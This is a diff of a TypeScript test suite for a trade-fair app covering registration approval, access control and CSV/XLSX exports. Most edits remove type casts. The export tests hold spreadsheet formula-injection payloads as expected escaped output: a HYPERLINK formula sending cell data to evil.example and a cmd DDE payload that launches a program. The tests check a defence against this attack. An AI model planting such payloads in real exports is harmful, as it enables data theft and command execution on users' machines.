@@ -49,7 +49,7 @@ describe('registration approval', () => {
     const fair = await createFair(organizer.user.id)
     const exporter = await createExporter()
     const buyer = await createBuyer({ country: 'DE' })
-    const register = (cookie: string) => post(`/fairs/${fair.slug}/register`, cookie, { intent: 'register' }, registerAction as never, { slug: fair.slug })
+    const register = (cookie: string) => post(`/fairs/${fair.slug}/register`, cookie, { intent: 'register' }, registerAction, { slug: fair.slug })
     expect(((await register(exporter.cookie)) as Response).status).toBe(302)
     expect(((await register(buyer.cookie)) as Response).status).toBe(302)
     const regs = await prisma.fairRegistration.findMany({ where: { fairId: fair.id }, orderBy: { kind: 'asc' } })
@@ -58,7 +58,7 @@ describe('registration approval', () => {
       ['BUYER', 'PENDING', null],
     ])
     const decide = (intent: string, registrationId: string) =>
-      post(`/organizer/fairs/${fair.id}`, organizer.cookie, { intent, registrationId }, manageAction as never, { fairId: fair.id })
+      post(`/organizer/fairs/${fair.id}`, organizer.cookie, { intent, registrationId }, manageAction, { fairId: fair.id })
     expect(((await decide('approve', regs[0]!.id)) as Response).status).toBe(302)
     expect(((await decide('reject', regs[1]!.id)) as Response).status).toBe(302)
     const after = await prisma.fairRegistration.findMany({ where: { fairId: fair.id }, orderBy: { kind: 'asc' } })
@@ -81,7 +81,7 @@ describe('registration approval', () => {
     const organizer = await createUser('ORGANIZER')
     const draft = await createFair(organizer.user.id, { status: 'DRAFT' })
     const buyer = await createBuyer()
-    const result = await caught(() => post(`/fairs/${draft.slug}/register`, buyer.cookie, { intent: 'register' }, registerAction as never, { slug: draft.slug }))
+    const result = await caught(() => post(`/fairs/${draft.slug}/register`, buyer.cookie, { intent: 'register' }, registerAction, { slug: draft.slug }))
     expect(result.status).toBe(404)
     expect((await caught(() => publicFairLoader({ request: getRequest(`/fairs/${draft.slug}`), params: { slug: draft.slug } } as never))).status).toBe(404)
   })
@@ -112,9 +112,9 @@ describe('access control', () => {
     }
     // Another organizer cannot act on it either.
     const registration = await (await getPrisma()).fairRegistration.create({ data: { fairId: fair.id, userId: buyer.user.id, kind: 'BUYER' } })
-    const refused = await caught(() => post(`/organizer/fairs/${fair.id}`, other.cookie, { intent: 'approve', registrationId: registration.id }, manageAction as never, params))
+    const refused = await caught(() => post(`/organizer/fairs/${fair.id}`, other.cookie, { intent: 'approve', registrationId: registration.id }, manageAction, params))
     expect(refused.status).toBe(404)
-    const csv = (await csvLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.csv`, [owner.cookie]), params } as never)) as Response
+    const csv = (await csvLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.csv`, [owner.cookie]), params } as never))
     expect(csv.headers.get('Content-Type')).toContain('text/csv')
   })
 })
@@ -269,12 +269,12 @@ describe('fair KPIs', () => {
     const rows = await listConsultationRows(fair.id, { locale: 'en', timeZone: 'Asia/Seoul' })
     expect(rows).toHaveLength(inquiries.length + held.length)
     expect(rows.reduce((t, r) => t + r.contractUsdCents, 0)).toBe(sum(consultations, 'contract'))
-    const csv = (await csvLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.csv`, [organizer.cookie]), params: { fairId: fair.id } } as never)) as Response
+    const csv = (await csvLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.csv`, [organizer.cookie]), params: { fairId: fair.id } } as never))
     const lines = (await csv.text()).replace(/^\uFEFF/, '').trim().split('\n')
     expect(lines[0]).toBe('Date,Type,Exporter,Buyer,Buyer country,Product,HS code,Consultation value (USD),Contract value (USD),Status')
     expect(lines).toHaveLength(rows.length + 1)
     expect(lines.some((l) => l.includes('Beta Beauty') && l.includes(',4875.00,WON'))).toBe(true)
-    const xlsx = (await xlsxLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.xlsx`, [organizer.cookie]), params: { fairId: fair.id } } as never)) as Response
+    const xlsx = (await xlsxLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.xlsx`, [organizer.cookie]), params: { fairId: fair.id } } as never))
     const bytes = new Uint8Array(await xlsx.arrayBuffer())
     expect([bytes[0], bytes[1]]).toEqual([0x50, 0x4b]) // a zip (OOXML) container
   })
@@ -342,16 +342,16 @@ describe('export files and formula injection', () => {
         consultationValueUsdCents: 1000n,
       },
     })
-    const csv = (await csvLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.csv`, [organizer.cookie]), params: { fairId: fair.id } } as never)) as Response
+    const csv = (await csvLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.csv`, [organizer.cookie]), params: { fairId: fair.id } } as never))
     const line = (await csv.text()).trim().split('\n')[1]!
     // Each hostile name is one quoted cell starting with an apostrophe (inner quotes doubled).
     expect(line).toContain(`,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Invoice"")",`)
     expect(line).toContain(`,"'＠SUM(1+1)*cmd|"" /C calc""!A0",`)
     expect(line).not.toMatch(/,=|,"=|,＠|,"＠/)
 
-    const xlsx = (await xlsxLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.xlsx`, [organizer.cookie]), params: { fairId: fair.id } } as never)) as Response
+    const xlsx = (await xlsxLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.xlsx`, [organizer.cookie]), params: { fairId: fair.id } } as never))
     const workbook = new ExcelJS.Workbook()
-    await workbook.xlsx.load((await xlsx.arrayBuffer()) as never)
+    await workbook.xlsx.load((await xlsx.arrayBuffer()))
     const row = workbook.getWorksheet('Consultations')!.getRow(2)
     // Typed string cells: Excel shows the text and never evaluates it (no formula cell is written).
     for (const [column, name] of [[3, hostileExporter], [4, hostileBuyer]] as const) {
